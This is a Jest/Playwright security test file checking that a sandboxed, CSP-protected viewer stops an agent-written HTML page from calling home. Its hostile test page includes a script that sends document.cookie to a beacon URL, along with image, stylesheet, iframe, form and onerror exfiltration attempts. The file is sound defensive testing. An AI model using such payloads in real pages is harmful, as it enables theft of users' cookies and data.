import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { chromium, type Browser, type Page } from 'playwright-core';
import { adminToken, createArtifact, createMember, createShare, type TestMember } from '../helpers/factories.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

// A published page is opened by anyone with the link, in a real browser, and
// its HTML is whatever an agent wrote. Its own scripts may run (dashboards), but
// what keeps a hostile page from calling home or reaching Vitrine's cookies is
// the render Content-Security-Policy; only a browser shows that it does. Here the
// content is opened directly, as a page of its own; test/page/share-viewer
// opens it as the viewer page frames it.

const CHROMIUM = process.env.VITRINE_CHROMIUM ?? '/usr/bin/chromium';
const haveChromium = existsSync(CHROMIUM);
if (!haveChromium && process.env.CI) throw new Error(`Chromium is missing at ${CHROMIUM}: CI installs it (apt-get install -y chromium)`);
if (!haveChromium) console.warn(`published-page tests skipped: no Chromium at ${CHROMIUM} (apt-get install -y chromium, or set VITRINE_CHROMIUM)`);
const describeInChromium = haveChromium ? describe : describe.skip;

const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

/** A page that tries every way out: script, an inline handler, remote image, style sheet, frame and form. */
function hostilePage(beacon: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Quarterly report</title>
<link rel="stylesheet" href="${beacon}/css">
<style>h1 { color: rgb(1, 2, 3) }</style></head>
<body><h1 id="heading">Quarterly report</h1>
<img id="inline" src="${PIXEL}">
<img id="remote" src="${beacon}/img">
<img src="missing.png" onerror="fetch('${beacon}/onerror')">
<script>document.getElementById('heading').textContent = 'pwned'; fetch('${beacon}/script?c=' + encodeURIComponent(document.cookie));</script>
<iframe src="${beacon}/frame"></iframe>
<form action="${beacon}/form" method="post"><input name="a" value="b"><button id="send" type="submit">Send</button></form>
</body></html>`;
}

let t: TestApp;
let member: TestMember;
let browser: Browser;
/** Every request a page made to the beacon, by path. */
let calls: string[];
let beaconServer: Server;
let beacon: string;

beforeAll(async () => {
  if (!haveChromium) return;
  t = await createTestApp();
  member = await createMember(t, await adminToken(t), 'member');
  calls = [];
  beaconServer = createServer((request, response) => {
    calls.push(new URL(request.url!, 'http://beacon').pathname);
    // The unprotected control page is served from here too, without any CSP.
    if (request.url === '/control') return response.writeHead(200, { 'content-type': 'text/html' }).end(hostilePage(beacon));
    response.writeHead(204).end();
  });
  await new Promise<void>((resolve) => beaconServer.listen(0, '127.0.0.1', resolve));
  beacon = `http://127.0.0.1:${(beaconServer.address() as AddressInfo).port}`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => beaconServer?.close(resolve));
  await t?.close();
});

/** Opens the page, tries to submit its form, and gives any request it started time to arrive. */
async function visit(url: string): Promise<Page> {
  const page = await browser.newPage();
  await page.goto(url, { waitUntil: 'load' });
  if (await page.locator('#send').count()) await page.click('#send', { noWaitAfter: true });
  await page.waitForTimeout(500);
  return page;
}

async function sharedLink(body: string, format: 'html' | 'markdown'): Promise<string> {
  const artifact = await createArtifact(t, member.token, { content: { format, body } });
  const share = await createShare(t, member.token, artifact.id);
  return `${t.url}/s/${share.token}/content`;
}

describeInChromium('a published page in Chromium', () => {
  it('without Vitrine, the same page runs its script and calls out (the control: the beacon hears what it would)', async () => {
    calls = [];
    const page = await visit(`${beacon}/control`);
    expect(await page.textContent('#heading')).toBe('pwned');
    expect(calls).toEqual(expect.arrayContaining(['/control', '/css', '/img', '/onerror', '/script', '/frame', '/form']));
    await page.close();
  });

  it('a hostile HTML artifact behind a link runs its own script, yet loads nothing from outside, submits nothing, and has no origin to steal from', async () => {
    const url = await sharedLink(hostilePage(beacon), 'html');
    calls = [];
    const page = await visit(url);
    expect(await page.textContent('#heading')).toBe('pwned');
    expect(calls).toEqual([]);
    // What the page may do still works: inline style and data: images.
    // (Expressions as text: they run in the page, and this project compiles without the DOM's types.)
    expect(await page.evaluate(`getComputedStyle(document.getElementById('heading')).color`)).toBe('rgb(1, 2, 3)');
    expect(await page.evaluate(`document.getElementById('inline').naturalWidth`)).toBe(1);
    expect(await page.evaluate(`document.getElementById('remote').naturalWidth`)).toBe(0);
    // Sandboxed: an opaque origin, so neither Vitrine's cookies nor its API are within reach.
    expect(await page.evaluate(`window.origin`)).toBe('null');
    expect(await page.evaluate(`(() => { try { return document.cookie; } catch (error) { return error.name; } })()`)).toBe('SecurityError');
    await page.close();
  });

  it('a Markdown artifact shows raw HTML as text and loads no remote image', async () => {
    const url = await sharedLink(`# Notes\n\n<script>document.title = 'pwned'</script>\n\n![chart](${beacon}/chart.png)`, 'markdown');
    calls = [];
    const page = await visit(url);
    expect(await page.textContent('h1')).toBe('Notes');
    expect(await page.textContent('body')).toContain("<script>document.title = 'pwned'</script>");
    expect(await page.title()).not.toBe('pwned');
    expect(calls).toEqual([]);
    await page.close();
  });
});
